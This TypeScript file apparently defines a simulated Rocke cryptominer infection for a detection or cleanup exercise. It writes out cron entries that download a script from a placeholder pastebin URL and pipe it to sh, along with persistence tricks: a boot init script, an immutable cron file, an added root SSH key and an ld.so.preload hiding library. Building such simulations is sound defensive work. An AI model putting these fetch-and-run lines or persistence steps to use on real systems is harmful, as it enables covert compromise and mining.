import { type Infection, minerWords, shyMiner } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const fetch = '(curl -fsSL https://pastebin.com/raw/00000000||wget -q -O- https://pastebin.com/raw/00000000)|sh'
const init = `#!/bin/bash\n### BEGIN INIT INFO\n# Provides: netdns\n# Required-Start:\n# Required-Stop:\n# Default-Start: 2 3 4 5\n# Default-Stop:\n# Short-Description: netdns\n### END INIT INFO\ncase $1 in\nstart)\n  /usr/sbin/kerberods &\n  ;;\nesac\n`
const cronLine = `*/10 * * * * ${fetch}`

/** families.md §9: kernel-thread names with an s too many, a dead drop at a paste site, a hiding library. */
export const rocke: Infection = {
  family: 'rocke',
  known: true,
  title: 'Rocke: kerberods brings khugepageds back from a paste site',
  story: [
    'kerberods drops and guards khugepageds, which sounds like a thread of the kernel and mines; another miner is called java.',
    'Jobs in four places fetch the dropper from a paste; an init script starts it at boot.',
    'A library in /etc/ld.so.preload hides the names. What it left is dated years back.',
  ],
  items: [
    {
      kind: 'file',
      path: '/tmp/khugepageds',
      content: { lookalike: { ...shyMiner, title: 'khugepageds', once: 'khugepageds' }, words: minerWords },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/usr/sbin/kerberods',
      content: {
        lookalike: {
          stubborn: true,
          once: 'kerberods',
          keeps: ['/tmp/khugepageds', '/usr/local/lib/libioset.so'],
          keepsLines: [{ path: '/var/spool/cron/crontabs/root', text: cronLine }],
          keepsRunning: ['/tmp/khugepageds'],
        },
      },
      mode: 0o755,
      daysOld: 1500,
    },
    { kind: 'file', path: '/tmp/kerberods', content: { copyOf: '/usr/sbin/kerberods' }, mode: 0o755 },
    {
      kind: 'file',
      path: '/tmp/java',
      content: { lookalike: { burn: 4, title: 'java', once: 'java' }, words: `${minerWords}\npacha` },
      mode: 0o755,
    },
    { kind: 'file', path: '/tmp/.XIMunix', content: { text: '4242' } },
    { kind: 'file', path: '/etc/init.d/netdns', content: { text: init }, mode: 0o755, daysOld: 1500 },
    { kind: 'link', path: '/etc/rc3.d/S01netdns', to: '../init.d/netdns' },
    { kind: 'line', path: '/var/spool/cron/crontabs/root', text: cronLine, mode: 0o600 },
    {
      kind: 'file',
      path: '/etc/cron.d/system',
      content: { text: `*/10 * * * * root ${fetch}\n##\n` },
      attributes: 'i',
    },
    { kind: 'file', path: '/etc/cron.d/tomcat', content: { text: `*/15 * * * * root ${fetch}\n##\n` } },
    {
      kind: 'file',
      path: '/etc/cron.hourly/oanacroner',
      content: { text: `#!/bin/sh\n${fetch}\n` },
      mode: 0o755,
    },
    {
      kind: 'line',
      path: '/root/.ssh/authorized_keys',
      text: loginKey('ssh-rsa', 'rocke', 'root@localhost.localdomain'),
      mode: 0o600,
      // Nothing tells it from the administrator's own key beside it: a person has to.
      after: 'advised',
    },
    {
      kind: 'file',
      path: '/usr/local/lib/libioset.so',
      content: { library: 'hide-readdir', hides: ['khugepageds', 'kerberods', 'libioset.so'] },
      mode: 0o755,
      daysOld: 1500,
    },
    { kind: 'line', path: '/etc/ld.so.preload', text: '/usr/local/lib/libioset.so', mode: 0o644 },
    { kind: 'process', path: '/usr/sbin/kerberods', argv: ['/usr/sbin/kerberods'] },
    { kind: 'process', path: '/tmp/khugepageds', argv: [], startedBy: '/usr/sbin/kerberods' },
    { kind: 'process', path: '/tmp/java', argv: ['java'], deleted: true },
  ],
}
